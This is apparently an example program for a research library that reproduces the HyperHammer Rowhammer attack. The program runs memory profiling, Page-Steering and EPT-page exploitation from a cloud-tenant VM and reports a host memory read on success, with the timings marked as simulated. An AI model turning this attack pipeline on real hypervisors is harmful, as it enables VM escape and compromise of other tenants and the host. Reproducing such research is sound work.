// Quickstart: one pass through the whole HyperHammer pipeline on the
// paper's S1 machine — profile, Page-Steer, exploit — printing what
// each step found. A single attempt succeeds only with probability
// roughly VM/(512*host) (Section 5.3.1), so this example usually ends
// with "attempt failed"; see examples/cloudtenant for a full campaign
// that runs attempts until the escape lands.
package main

import (
	"fmt"
	"log"

	"hyperhammer"
)

func main() {
	// The paper's S1 machine: a 16 GiB Intel i3-10100 host with KVM
	// defaults — THP on, the iTLB-Multihit NX-hugepage countermeasure
	// on, stock QEMU.
	s1 := hyperhammer.GetScenario(hyperhammer.SystemS1, hyperhammer.FullScale)
	host, err := hyperhammer.NewHost(s1.HostConfig(1))
	if err != nil {
		log.Fatal(err)
	}

	// The attacker is an ordinary cloud tenant: a 13 GiB VM with one
	// passed-through NIC (VFIO + vIOMMU), as in Section 3.
	vm, err := host.CreateVM(s1.VM)
	if err != nil {
		log.Fatal(err)
	}
	guest := hyperhammer.BootGuest(vm)

	// The attacker knows the CPU model, so it knows the DRAM bank
	// function (recovered offline with DRAMDig, Section 5.1).
	cfg := s1.AttackConfig()
	cfg.StopAfterExploitable = cfg.TargetBits // stop profiling at 12 usable bits

	// Step 1: memory profiling (Section 4.1).
	prof, err := hyperhammer.Profile(guest, cfg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("profiling: %d flips (%d 1->0, %d 0->1), %d stable, %d attack-usable, %v simulated\n",
		prof.Total, prof.OneToZero, prof.ZeroToOne, prof.Stable, prof.AttackUsable, prof.Duration)

	// Step 2: Page Steering (Section 4.2).
	victims := prof.ExploitableBits(cfg.TargetBits)
	steer, err := hyperhammer.PageSteer(guest, cfg, prof.Buffer, victims)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("steering: %d vIOMMU mappings, %d vulnerable blocks released, %d hugepages split, %v simulated\n",
		steer.IOVAMappings, len(steer.Released), steer.Splits, steer.Duration)

	// Step 3: exploitation (Section 4.3).
	expl, err := hyperhammer.Exploit(guest, cfg, prof.Buffer, steer)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("exploitation: %d bits hammered, %d mapping changes, %d EPT-format candidates, %d confirmed\n",
		expl.HammeredBits, expl.MappingChanges, expl.CandidateEPTPages, expl.ConfirmedEPTPages)

	if expl.Success() {
		// Arbitrary host physical memory is now readable and
		// writable through the stolen EPT page.
		w, err := expl.Escape.ReadHost(0x1000)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("ESCAPE: read host physical address 0x1000 = %#x\n", w)
		return
	}
	fmt.Printf("attempt failed (expected: per-attempt success bound is 1/%.0f); the full attack respawns and retries\n",
		hyperhammer.ExpectedAttempts(s1.VM.MemSize, s1.Backend.Geometry.Size))
}
